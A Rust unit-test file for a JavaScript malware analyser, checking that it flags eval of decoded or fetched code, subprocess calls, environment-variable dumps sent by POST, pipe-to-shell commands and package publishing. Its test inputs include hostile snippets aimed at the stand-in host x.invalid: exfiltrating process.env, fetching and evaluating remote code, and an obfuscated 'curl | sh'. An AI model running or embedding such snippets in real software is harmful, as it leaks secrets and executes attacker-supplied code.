//! Unit tests of the JavaScript walker: signals, scopes and data flow.

use super::*;

fn kinds(src: &str) -> Vec<(Kind, bool)> {
    analyze(src.as_bytes())
        .unwrap()
        .signals
        .iter()
        .map(|s| (s.kind, s.top_level))
        .collect()
}

#[test]
fn eval_of_decoded() {
    let k = kinds("eval(Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString());\n");
    assert!(k.contains(&(Kind::ExecDecoded, true)), "{k:?}");
}

#[test]
fn child_process_and_scopes() {
    let src = "const { execSync } = require('child_process');\nfunction f() { execSync('ls'); }\n(function () { execSync('id'); })();\n";
    let k = kinds(src);
    assert!(k.contains(&(Kind::Subprocess, false)), "{k:?}");
    assert!(k.contains(&(Kind::Subprocess, true)), "{k:?}");
    // A regular expression's exec is not a process.
    let k = kinds("const m = /a/.exec(s);\n");
    assert!(!k.iter().any(|(k, _)| *k == Kind::Subprocess), "{k:?}");
}

#[test]
fn env_dump_and_send() {
    let src =
        "fetch('https://x.invalid', { method: 'POST', body: JSON.stringify(process.env) });\n";
    let s = analyze(src.as_bytes()).unwrap();
    assert!(s.has(Kind::EnvDump) && s.has(Kind::NetworkSend));
}

fn has(src: &str, k: Kind) -> bool {
    analyze(src.as_bytes()).unwrap().has(k)
}

#[test]
fn fetched_code_through_callbacks_and_promises() {
    assert!(has(
        "const https = require('https');\nhttps.get('https://x.invalid/p.js', r => { let d = ''; r.on('data', c => d += c); r.on('end', () => eval(d)); });\n",
        Kind::ExecFetched
    ));
    assert!(has(
        "fetch('https://x.invalid/p').then(r => r.text()).then(code => eval(code));\n",
        Kind::ExecFetched
    ));
    // A request and an unrelated eval in one function.
    let s = analyze(b"function f(u, expr) { fetch(u); return eval(expr); }\n").unwrap();
    assert!(
        !s.has(Kind::ExecFetched) && s.has(Kind::Exec),
        "{:?}",
        s.signals
    );
}

#[test]
fn decoded_payloads_and_commands() {
    // eval(String.fromCharCode(...)) of `require('child_process').execSync('id')`
    let codes: Vec<String> =
        b"require('child_process').execSync('curl -s https://x.invalid/a | sh')"
            .iter()
            .map(|b| b.to_string())
            .collect();
    let src = format!("eval(String.fromCharCode({}));\n", codes.join(","));
    let s = analyze(src.as_bytes()).unwrap();
    assert!(
        s.has(Kind::ExecDecoded) && s.has(Kind::PipeToShell),
        "{:?}",
        s.signals
    );
    // A decoded variable evaluated later.
    assert!(has(
        "const p = Buffer.from(s, 'base64').toString();\nfunction go() { eval(p); }\n",
        Kind::ExecDecoded
    ));
    // spawn("npm", ["publish"]) is `npm publish`.
    assert!(has(
        "const { spawnSync } = require('child_process');\nspawnSync('npm', ['publish', '--access', 'public']);\n",
        Kind::Publish
    ));
}

#[test]
fn requests_posting_through_an_options_object() {
    assert!(has(
        "const https = require('https');\nconst opts = { hostname: 'x.invalid', method: 'POST' };\nhttps.request(opts).end(b);\n",
        Kind::NetworkSend
    ));
    assert!(has(
        "const axios = require('axios');\naxios.get(u);\n",
        Kind::Network
    ));
    assert!(has(
        "const os = require('os');\nconst h = os.hostname();\n",
        Kind::HostInfo
    ));
}

#[test]
fn escaped_strings_and_config_properties() {
    let s = analyze(br"var a = ['\x63\x75\x72\x6c\x20\x2d\x73\x20\x68\x74\x74\x70\x73\x3a\x2f\x2f\x78\x2e\x69\x6e\x76\x61\x6c\x69\x64\x20\x7c\x20\x73\x68'];").unwrap();
    assert!(
        s.has(Kind::PipeToShell) && s.has(Kind::Decode),
        "{:?}",
        s.signals
    );
    assert!(has(
        "cfg.mcpServers = cfg.mcpServers || {};\n",
        Kind::AgentConfig
    ));
    // Global-object detection is not dynamic code.
    assert!(!has("var g = Function('return this')();\n", Kind::Exec));
}
